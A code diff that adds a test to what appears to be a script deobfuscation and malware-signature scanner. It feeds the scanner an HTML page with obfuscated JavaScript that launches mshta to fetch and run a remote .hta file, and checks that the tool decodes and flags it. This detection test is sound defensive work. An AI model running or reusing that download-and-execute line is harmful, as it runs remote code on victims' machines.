@@ -219,3 +219,13 @@ def test_every_signature_has_anchor_words():
 
     assert {name for signatures in PATTERNS.values() for name in signatures} == set(ANCHORS)
     assert all(word == word.lower() for words in ANCHORS.values() for word in words)
+
+
+def test_javascript_inside_a_page_is_folded_block_by_block():
+    page = ('<html><body><p>"not" + "code"</p><script>var u = "ht" + "tp://198.51.100.9/" + "x.hta";\n'
+            'new ActiveXObject("WScr" + "ipt.Shell").Run("mshta " + u);</script>'
+            '<script language="VBScript">x = "a" & "b"</script></body></html>')
+    run = scripts(page, "code/html")
+    [layer] = layers(run)
+    assert 'new ActiveXObject("WScript.Shell").Run("mshta http://198.51.100.9/x.hta")' in layer
+    assert "mshta" in signatures(run, 4)
